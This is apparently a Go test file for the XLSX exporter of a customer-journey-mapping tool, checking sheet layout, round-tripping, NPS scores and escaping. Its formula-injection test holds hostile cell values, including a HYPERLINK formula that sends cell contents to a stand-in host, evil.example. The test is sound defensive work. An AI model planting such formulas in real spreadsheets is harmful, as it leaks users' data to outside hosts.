package xlsx

import (
	"archive/zip"
	"bytes"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/journey-cx/journey/internal/mapgen"
	"github.com/journey-cx/journey/internal/maptest"
	"github.com/journey-cx/journey/journey"
	"github.com/journey-cx/journey/journey/workbook"
	"github.com/journey-cx/journey/render"
)

func write(t testing.TB, in *render.Input) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := Write(&buf, in); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func open(t testing.TB, data []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = f.Close() })
	return f
}

var findings = journey.Diagnostics{
	{Rule: "pain-without-opportunity", Severity: journey.SeverityWarning, Message: "=HYPERLINK(\"x\") has a pain but no opportunity", File: "a.journey.yaml", Line: 12, Column: 9, Path: "stages[0].touchpoints[1]", Suggest: "+add one"},
	{Rule: "invalid", Severity: journey.SeverityError, Message: "ñandú: unknown channel", File: "a.journey.yaml", Line: 3, Column: 1},
}

func TestDeterministic(t *testing.T) {
	t.Parallel()
	for _, fx := range maptest.Fixtures {
		t.Run(fx.Name, func(t *testing.T) {
			t.Parallel()
			in := &render.Input{Map: maptest.Load(t, fx.Path), Theme: render.Default, Findings: findings}
			a, b := write(t, in), write(t, in)
			if !bytes.Equal(a, b) {
				t.Fatal("two workbooks of the same map differ")
			}
			f := open(t, a)
			props, err := f.GetDocProps()
			if err != nil {
				t.Fatal(err)
			}
			if props.Created != Epoch || props.Modified != Epoch {
				t.Errorf("document times %q, %q; want %q", props.Created, props.Modified, Epoch)
			}
			if props.Title != in.Map.Title {
				t.Errorf("document title %q, want %q", props.Title, in.Map.Title)
			}
		})
	}
}

func TestSheets(t *testing.T) {
	t.Parallel()
	f := open(t, write(t, &render.Input{Map: maptest.Load(t, maptest.Fixtures[0].Path)}))
	want := []string{SheetMap, SheetTouchpoints, SheetScores, SheetFindings}
	if got := f.GetSheetList(); !slices.Equal(got, want) {
		t.Errorf("sheets %q, want %q", got, want)
	}
}

// TestTouchpointsRoundTrip reads the Touchpoints sheet back the way
// `journey import xlsx` will and compares every field with the model.
func TestTouchpointsRoundTrip(t *testing.T) {
	t.Parallel()
	for _, fx := range maptest.Fixtures {
		t.Run(fx.Name, func(t *testing.T) {
			t.Parallel()
			m := maptest.Load(t, fx.Path)
			f := open(t, write(t, &render.Input{Map: m}))
			rows, err := f.GetRows(SheetTouchpoints, excelize.Options{RawCellValue: true})
			if err != nil {
				t.Fatal(err)
			}
			keys := rows[0]
			if want := TouchpointColumns(m); !slices.Equal(keys, want) {
				t.Fatalf("header %q, want %q", keys, want)
			}
			if want := workbook.Columns(perPersona(m)); !slices.Equal(keys, want) {
				t.Fatalf("header %q, want the contract's %q", keys, want)
			}
			col := map[string]int{}
			for i, k := range keys {
				col[k] = i
			}
			tps := m.Touchpoints()
			if len(rows)-1 != len(tps) {
				t.Fatalf("%d data rows, want %d", len(rows)-1, len(tps))
			}
			for i, tp := range tps {
				r := rows[i+1]
				get := func(k string) string {
					if j, ok := col[k]; ok && j < len(r) {
						return r[j]
					}
					return ""
				}
				checkTouchpointRow(t, i+2, get, &m.Stages[m.StageOf(tp.ID)], tp)
			}
		})
	}
}

// checkTouchpointRow compares row of the Touchpoints sheet, whose cells get
// returns by key, with tp of stage st.
func checkTouchpointRow(t *testing.T, row int, get func(key string) string, st *journey.Stage, tp *journey.Touchpoint) {
	t.Helper()
	eq := func(k, want string) {
		t.Helper()
		if got := get(k); got != want {
			t.Errorf("row %d %s = %q, want %q", row, k, got, want)
		}
	}
	eq("stage_id", st.ID)
	eq("stage_name", st.Name)
	eq("id", tp.ID)
	eq("name", tp.Name)
	eq("description", tp.Description)
	eq("channel", tp.Channel)
	eq("owner", tp.Owner)
	eq("actors", strings.Join(tp.Actors, "\n"))
	eq("action", tp.Action)
	eq("thought", tp.Thought)
	eq("moment_of_truth", tp.MomentOfTruth)
	for _, e := range tp.Emotion {
		k := "emotion"
		if e.Persona != "" {
			k = workbook.EmotionColumn(e.Persona)
		}
		if got, err := strconv.ParseFloat(get(k), 64); err != nil || got != e.Value {
			t.Errorf("row %d %s = %q, want %v", row, k, get(k), e.Value)
		}
	}
	switch {
	case !tp.NextSet:
		eq("next", "")
	case len(tp.Next) == 0:
		eq("next", workbook.EndOfFlow)
	default:
		eq("next", strings.Join(tp.Next, "\n"))
	}
	var pains, sev, opps, status []string
	for _, p := range tp.Pains {
		pains = append(pains, p.Text)
		sev = append(sev, p.Severity)
	}
	for _, o := range tp.Opportunities {
		opps = append(opps, o.Text)
		status = append(status, o.Status)
	}
	eq("pains", lines(pains))
	eq("pain_severity", lines(sev))
	eq("opportunities", lines(opps))
	eq("opportunity_status", lines(status))
	if tp.Metrics != nil && tp.Metrics.NPS != nil && tp.Metrics.NPS.Promoters != nil {
		eq("nps_promoters", strconv.Itoa(*tp.Metrics.NPS.Promoters))
	}
	if tp.Metrics != nil && tp.Metrics.CSAT != nil && tp.Metrics.CSAT.Total != nil {
		eq("csat_total", strconv.Itoa(*tp.Metrics.CSAT.Total))
	}
}

// TestNoFormulas checks that user text which looks like a formula is stored
// as a string: no formula, the text intact, the text number format.
func TestNoFormulas(t *testing.T) {
	t.Parallel()
	m := maptest.Load(t, maptest.Fixtures[3].Path)
	f := open(t, write(t, &render.Input{Map: m, Findings: findings}))
	hostile := map[string]bool{}
	for _, tp := range m.Touchpoints() {
		if strings.ContainsAny(tp.Name[:1], "=+-@") {
			hostile[tp.Name] = true
		}
		for _, p := range tp.Pains {
			if strings.ContainsAny(p.Text[:1], "=+-@") {
				hostile[p.Text] = true
			}
		}
	}
	for _, s := range []string{`=HYPERLINK("http://evil.example/?q="&A1,"Haz clic")`, "+1", "-2", "@SUM(A1:A9)", "=1+2"} {
		if !hostile[s] {
			t.Fatalf("fixture lost its hostile text %q", s)
		}
	}
	found := map[string]bool{}
	for _, sh := range f.GetSheetList() {
		rows, err := f.GetRows(sh, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				name := cell(c+1, r+1)
				formula, err := f.GetCellFormula(sh, name)
				if err != nil {
					t.Fatal(err)
				}
				if formula != "" {
					t.Errorf("%s!%s has formula %q", sh, name, formula)
				}
				typ, err := f.GetCellType(sh, name)
				if err != nil {
					t.Fatal(err)
				}
				if _, err := strconv.ParseFloat(v, 64); err == nil && (typ == excelize.CellTypeUnset || typ == excelize.CellTypeNumber) {
					continue // one of journey's own numbers, e.g. a negative NPS
				}
				for _, l := range strings.Split(v, "\n") {
					found[l] = true
				}
				if v == "" || !strings.ContainsAny(v[:1], "=+-@") {
					continue
				}
				if typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
					t.Errorf("%s!%s = %q is of type %v, want a string", sh, name, v, typ)
				}
				st, err := f.GetCellStyle(sh, name)
				if err != nil {
					t.Fatal(err)
				}
				if s, err := f.GetStyle(st); err != nil || s.NumFmt != numFmtText {
					t.Errorf("%s!%s = %q: number format %v, want text (%d)", sh, name, v, s.NumFmt, numFmtText)
				}
			}
		}
	}
	for s := range hostile {
		if !found[s] && len([]rune(s)) < 32767 {
			t.Errorf("text %q not found as a string cell", s)
		}
	}
	if !found["+add one"] {
		t.Error("finding suggestion +add one not found as a string cell")
	}
}

func TestMapSheet(t *testing.T) {
	t.Parallel()
	m := maptest.Load(t, maptest.Fixtures[0].Path)
	data := write(t, &render.Input{Map: m})
	f := open(t, data)
	rows, err := f.GetRows(SheetMap, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	lb := render.LabelsFor("es")
	if rows[0][0] != m.Title {
		t.Errorf("A1 = %q, want the title", rows[0][0])
	}
	byLabel := map[string][]string{}
	for _, r := range rows {
		if len(r) > 0 {
			byLabel[r[0]] = r
		}
	}
	stage := byLabel[lb.Stage]
	if stage == nil || stage[1] != m.Stages[0].Name {
		t.Fatalf("stage row %q, want %q first", stage, m.Stages[0].Name)
	}
	tps := m.Touchpoints()
	names := byLabel[lb.Touchpoints]
	emo := byLabel[lb.Emotions]
	if len(names) != len(tps)+1 || len(emo) > len(tps)+1 {
		t.Fatalf("touchpoint row has %d cells, emotion row %d; want %d", len(names), len(emo), len(tps)+1)
	}
	for i, tp := range tps {
		if names[i+1] != tp.Name {
			t.Errorf("touchpoint %d = %q, want %q", i, names[i+1], tp.Name)
		}
		v, ok := tp.MeanEmotion()
		got := ""
		if i+1 < len(emo) {
			got = emo[i+1]
		}
		if ok && got != strconv.FormatFloat(v, 'f', -1, 64) || !ok && got != "" {
			t.Errorf("emotion of %s = %q, want %v (%v)", tp.ID, got, v, ok)
		}
	}
	merged, err := f.GetMergeCells(SheetMap)
	if err != nil {
		t.Fatal(err)
	}
	if len(merged) < 2 {
		t.Errorf("%d merged ranges, want the title bands and the stages", len(merged))
	}
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	var chart bool
	for _, zf := range zr.File {
		chart = chart || strings.HasPrefix(zf.Name, "xl/charts/chart")
	}
	if !chart {
		t.Error("no emotion chart in the workbook")
	}
}

func TestPersonaEmotionColumns(t *testing.T) {
	t.Parallel()
	m := maptest.Load(t, maptest.Fixtures[3].Path)
	cols := TouchpointColumns(m)
	for _, want := range []string{"emotion", "emotion:marta", "emotion:jorge"} {
		if !slices.Contains(cols, want) {
			t.Errorf("columns %q lack %q", cols, want)
		}
	}
	f := open(t, write(t, &render.Input{Map: m}))
	dvs, err := f.GetDataValidations(SheetTouchpoints)
	if err != nil {
		t.Fatal(err)
	}
	if len(dvs) != 3 {
		t.Fatalf("%d data validations, want 3 (emotion and one per persona)", len(dvs))
	}
	for _, dv := range dvs {
		if dv.Type != "decimal" || dv.Formula1 != "1" || dv.Formula2 != "5" {
			t.Errorf("validation %s: %s %s..%s, want decimal 1..5", dv.Sqref, dv.Type, dv.Formula1, dv.Formula2)
		}
	}
	rows, err := f.GetRows(SheetMap, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	var personaRows int
	for _, r := range rows {
		if len(r) > 0 && strings.HasPrefix(r[0], "Emociones · ") {
			personaRows++
		}
	}
	if personaRows != 2 {
		t.Errorf("%d persona emotion rows on the Map sheet, want 2", personaRows)
	}
}

func TestScoresSheet(t *testing.T) {
	t.Parallel()
	m := maptest.Load(t, maptest.Fixtures[0].Path)
	f := open(t, write(t, &render.Input{Map: m}))
	rows, err := f.GetRows(SheetScores, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	if got, want := rows[1][scNPS-1], strconv.FormatFloat(*m.Targets.NPS, 'f', -1, 64); got != want {
		t.Errorf("NPS target %q, want %q", got, want)
	}
	if n := len(rows) - 2; n != len(m.Stages)+len(m.Touchpoints())+1 {
		t.Errorf("%d figure rows, want stages + touchpoints + overall", n)
	}
	cf, err := f.GetConditionalFormats(SheetScores)
	if err != nil {
		t.Fatal(err)
	}
	if len(cf) != 3 {
		t.Errorf("conditional formats on %d ranges, want 3 (NPS, CES, CSAT)", len(cf))
	}
	for ref, opts := range cf {
		if len(opts) != 3 {
			t.Errorf("%s: %d rules, want met, uncertain, missed", ref, len(opts))
		}
	}
}

func TestFindingsSheet(t *testing.T) {
	t.Parallel()
	f := open(t, write(t, &render.Input{Map: maptest.Load(t, maptest.Fixtures[0].Path), Findings: findings}))
	rows, err := f.GetRows(SheetFindings, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"severity", "rule", "message", "file", "line", "column", "path", "suggestion"},
		{"warning", "pain-without-opportunity", findings[0].Message, "a.journey.yaml", "12", "9", "stages[0].touchpoints[1]", "+add one"},
		{"error", "invalid", "ñandú: unknown channel", "a.journey.yaml", "3", "1"},
	}
	if len(rows) != len(want) {
		t.Fatalf("%d rows, want %d", len(rows), len(want))
	}
	for i := range want {
		if !slices.Equal(rows[i], want[i]) {
			t.Errorf("row %d = %q, want %q", i+1, rows[i], want[i])
		}
	}
}

func TestNoMap(t *testing.T) {
	t.Parallel()
	if err := Write(&bytes.Buffer{}, &render.Input{}); err == nil {
		t.Error("Write with no map: want an error")
	}
}

func TestEmptyMap(t *testing.T) {
	t.Parallel()
	m := &journey.Map{ID: "empty", Title: "Vacío", Stages: []journey.Stage{{ID: "a", Name: "A"}}}
	f := open(t, write(t, &render.Input{Map: m}))
	rows, err := f.GetRows(SheetTouchpoints)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1 {
		t.Errorf("%d rows, want the header alone", len(rows))
	}
}

// BenchmarkWrite200 writes a 200-touchpoint map (the budget: 300 ms).
func BenchmarkWrite200(b *testing.B) {
	m, diags := journey.Load("gen.journey.yaml", mapgen.Map(1, 200), journey.Options{})
	if diags.HasErrors() {
		b.Fatal(diags)
	}
	in := &render.Input{Map: m, Theme: render.Default}
	var buf bytes.Buffer
	for b.Loop() {
		buf.Reset()
		if err := Write(&buf, in); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(buf.Len()), "bytes")
}

// TestScoresSheetSmallSample: an NPS of two answers (one promoter, one
// detractor) gets the interval capped to -100..100, not ±138.6, and the
// row names it in the small-sample column, in the map's language.
func TestScoresSheetSmallSample(t *testing.T) {
	t.Parallel()
	m := maptest.Load(t, "../testdata/two-answers.journey.yaml")
	f := open(t, write(t, &render.Input{Map: m}))
	rows, err := f.GetRows(SheetScores, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	if got := rows[0][scSmall-1]; got != "muestra pequeña (n < 30)" {
		t.Errorf("small-sample head %q", got)
	}
	tp := rows[3] // head, targets, stage, touchpoint
	cell := func(col int) string {
		if col-1 < len(tp) {
			return tp[col-1]
		}
		return ""
	}
	for _, c := range []struct {
		col  int
		want string
	}{{scNPS, "0"}, {scNPSLow, "-100"}, {scNPSHigh, "100"}, {scNPSN, "2"}, {scCSAT, "100"}, {scCSATLow, "100"}, {scCSATHigh, "100"}, {scCSATN, "40"}, {scSmall, "NPS"}} {
		if got := cell(c.col); got != c.want {
			t.Errorf("touchpoint row, column %s: %q, want %q (row %q)", colName(c.col), got, c.want, tp)
		}
	}
	mrows, err := f.GetRows(SheetMap)
	if err != nil {
		t.Fatal(err)
	}
	var found bool
	for _, r := range mrows {
		for _, c := range r {
			if strings.HasPrefix(c, "NPS 0.0") {
				found = true
				if want := "NPS 0.0 -100.0–100.0 (n=2, muestra pequeña)"; !strings.Contains(c, want) {
					t.Errorf("map sheet metrics %q, want %q", c, want)
				}
			}
		}
	}
	if !found {
		t.Errorf("no NPS figure on the map sheet: %q", mrows)
	}
}
